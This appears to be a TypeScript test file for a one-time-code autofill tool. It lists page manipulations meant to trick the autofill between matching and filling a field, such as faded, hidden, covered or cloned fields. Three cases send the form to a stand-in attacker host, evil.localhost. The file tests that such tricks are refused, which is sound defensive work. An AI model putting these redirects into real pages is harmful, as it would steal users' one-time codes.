import type { Arena } from '../arena.ts';
import type { Attack } from '../attack.ts';
import { boxes, type PageParts } from '../pages.ts';

/** What the page does after the request for a code and before its arrival. */
const MEANWHILE: Record<string, (arena: Arena) => unknown> = {
  'the field is another': () =>
    document.getElementById('code')?.replaceWith(document.getElementById('code')?.cloneNode() ?? ''),
  'the field is hidden': () => document.getElementById('code')?.setAttribute('type', 'hidden'),
  'the field is one for a search': () => document.getElementById('code')?.setAttribute('type', 'search'),
  'the field is moved off the page': () =>
    document.getElementById('code')?.setAttribute('style', 'position: fixed; left: -900px'),
  'the field is faded': () => document.getElementById('outer')?.setAttribute('style', 'opacity: 0.01'),
  'the field is covered': () =>
    document.getElementById('cover')?.setAttribute('style', 'position: fixed; inset: 0; background: white'),
  'the field is disabled': () => document.getElementById('code')?.setAttribute('disabled', ''),
  'the field has another name': () => {
    const label = document.querySelector('label');
    if (label) label.textContent = '確認用パスワード';
  },
  'there is a second field': () => {
    const line = document.querySelector('#inner p');
    const second = line?.cloneNode(true);
    if (line && second) line.after(second);
  },
  'the screen is another': () => {
    const heading = document.querySelector('h1');
    const id = document.querySelector('p');
    if (heading) heading.textContent = 'ワンタイムパスワード利用解除（利用解除確認）';
    if (id) id.textContent = '画面ID : BOS001';
  },
  'the field is typed into': () => {
    const field = document.querySelector<HTMLInputElement>('#code');
    if (field) field.defaultValue = '1';
  },
  'a base leads the form elsewhere': () => {
    document.querySelector('form')?.setAttribute('action', 'next');
    const base = document.createElement('base');
    base.href = 'http://evil.localhost/';
    document.head.append(base);
  },
  'the form leads elsewhere': () =>
    document.querySelector('form')?.setAttribute('action', 'http://evil.localhost/take'),
  'a button leads elsewhere': () =>
    document.querySelector('button')?.setAttribute('formaction', 'http://evil.localhost/take'),
  'the field goes into a frame': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument?.body.append(document.getElementById('code') ?? '');
  },
  'the field goes under a shadow root': () => {
    document.getElementById('outer')?.attachShadow({ mode: 'open' });
  },
  'the document is written anew': () => {
    const html = document.documentElement.outerHTML;
    document.open();
    document.write(html);
    document.close();
  },
};

/** The same with eight boxes for a field. */
const MEANWHILE_IN_BOXES: Record<string, () => unknown> = {
  'one of eight boxes is another': () => {
    const box = document.querySelector('.box');
    box?.replaceWith(box.cloneNode());
  },
  'one of eight boxes is faded': () => document.querySelector('.box')?.setAttribute('style', 'opacity: 0.01'),
  'one of eight boxes takes more than a digit': () =>
    document.querySelector('.box')?.setAttribute('maxlength', '8'),
  'two of eight boxes change places': () => {
    const box = document.querySelector('.box');
    box?.nextElementSibling?.after(box);
  },
  'there is a ninth box': () => {
    const box = document.querySelector('.box');
    box?.before(box.cloneNode());
  },
};

/** There is a field that could be filled: it is asked for, and has to wait for the next code. */
const WAITING = 'waiting';

/** What is said of the page when it is read again, where it is more than that it has no such field. */
const SAID: Readonly<Record<string, string>> = {
  'the field is one for a search': 'unrecognised: field disabled',
  'the field is moved off the page': 'unrecognised: field outside',
  'the field is faded': 'unrecognised: field faded',
  'the field is covered': 'unrecognised: field covered',
  'the field is disabled': 'unrecognised: field disabled',
  'the field is typed into': 'typed',
  'a base leads the form elsewhere': 'unrecognised: field off-origin',
  'the form leads elsewhere': 'unrecognised: field off-origin',
  'a button leads elsewhere': 'unrecognised: field off-origin',
  'one of eight boxes is faded': 'unrecognised: field faded',
  'the field is another': WAITING,
  'the document is written anew': WAITING,
  'the screen is another': WAITING,
  'one of eight boxes is another': WAITING,
  'two of eight boxes change places': WAITING,
};

const meanwhile = (name: string, happens: (arena: Arena) => unknown, parts: PageParts = {}): Attack => {
  const said = SAID[name] ?? 'unrecognised: field';
  return {
    from: 'in-page',
    name: `between match and fill: ${name}`,
    refusedBy: ['refused: field-changed', said],
    yields: 'nothing',
    play: async (arena) => {
      const outcome = await arena.between(parts, () => arena.page.evaluate(happens as () => unknown));
      if (said === WAITING) await arena.until(async () => (await arena.settled()) === said, said);
      return outcome;
    },
  };
};

/** Changes of the page between match and fill. */
export const BETWEEN_MATCH_AND_FILL: readonly Attack[] = [
  ...Object.entries(MEANWHILE).map(([name, happens]) => meanwhile(name, happens)),
  ...Object.entries(MEANWHILE_IN_BOXES).map(([name, happens]) =>
    meanwhile(name, happens, { line: boxes(8) }),
  ),
];
